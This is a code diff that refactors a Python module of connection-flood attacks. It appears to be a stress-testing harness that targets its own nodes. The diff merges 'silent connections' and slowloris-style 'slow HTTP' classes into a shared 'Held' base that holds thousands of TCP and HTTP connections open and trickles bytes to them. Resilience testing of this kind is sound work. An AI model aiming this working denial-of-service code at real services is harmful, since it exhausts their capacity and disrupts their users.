@@ -153,68 +153,71 @@ class WrongPasswords(Flood):
         self.count(answered=drain(self.sockets))
 
 
-class Silent(Flood):
-    """Connections that are opened and say nothing, or a byte a second, at each listener of TCP."""
+class Held(Flood):
+    """Connections that are opened and held, at several listeners, while a few of them say one more byte."""
 
-    name = "silent connections"
-    rate = 400
-    AT_ONCE = 3_000
+    AT_ONCE = 0
+    # How many of those that are open say a byte in a turn.
+    TRICKLING = 1
+    byte = b"x"
 
     def prepare(self):
         self.open = []
 
+    def addresses(self):
+        raise NotImplementedError
+
+    def first(self):
+        """What a connection begins with."""
+        return b""
+
     def attack(self):
-        for address in self.node.tcp:
+        for address in self.addresses():
             one = socket.socket()
             one.settimeout(0.2)
             try:
                 one.bind((random.choice(SOURCES), 0))
                 one.connect(address)
+                one.send(self.first())
                 self.open.append(one)
                 self.count(sent=1)
             except OSError:
                 one.close()
         while len(self.open) > self.AT_ONCE:
             self.open.pop(0).close()
-        if self.open:
-            slow = random.choice(self.open)
+        for one in random.sample(self.open, min(self.TRICKLING, len(self.open))):
             try:
-                slow.send(b"<")
+                one.send(self.byte)
             except OSError:
-                self.open.remove(slow)
-                slow.close()
+                self.open.remove(one)
+                one.close()
 
 
-class SlowHttp(Flood):
+class Silent(Held):
+    """Connections that say nothing, or a byte now and then, at each listener of TCP."""
+
+    name = "silent connections"
+    rate = 400
+    AT_ONCE = 3_000
+    byte = b"<"
+
+    def addresses(self):
+        return self.node.tcp
+
+
+class SlowHttp(Held):
     """Headers and bodies that come a few bytes at a time, at the listeners of HTTP."""
 
     name = "slow HTTP"
     rate = 50
     AT_ONCE = 400
+    TRICKLING = 20
 
-    def prepare(self):
-        self.open = []
+    def addresses(self):
+        return self.node.http
 
-    def attack(self):
-        for address in self.node.http:
-            one = socket.socket()
-            one.settimeout(0.2)
-            try:
-                one.bind((random.choice(SOURCES), 0))
-                one.connect(address)
-                one.send(random.choice([b"GET /metrics HTTP/1.1\r\nHost: a\r\n", b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n"]))
-                self.open.append(one)
-                self.count(sent=1)
-            except OSError:
-                one.close()
-        while len(self.open) > self.AT_ONCE:
-            self.open.pop(0).close()
-        for one in random.sample(self.open, min(20, len(self.open))):
-            try:
-                one.send(b"x")
-            except OSError:
-                self.open.remove(one)
-                one.close()
+    def first(self):
+        return random.choice([b"GET /metrics HTTP/1.1\r\nHost: a\r\n", b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n"])
 
 
 class Bombs(Flood):
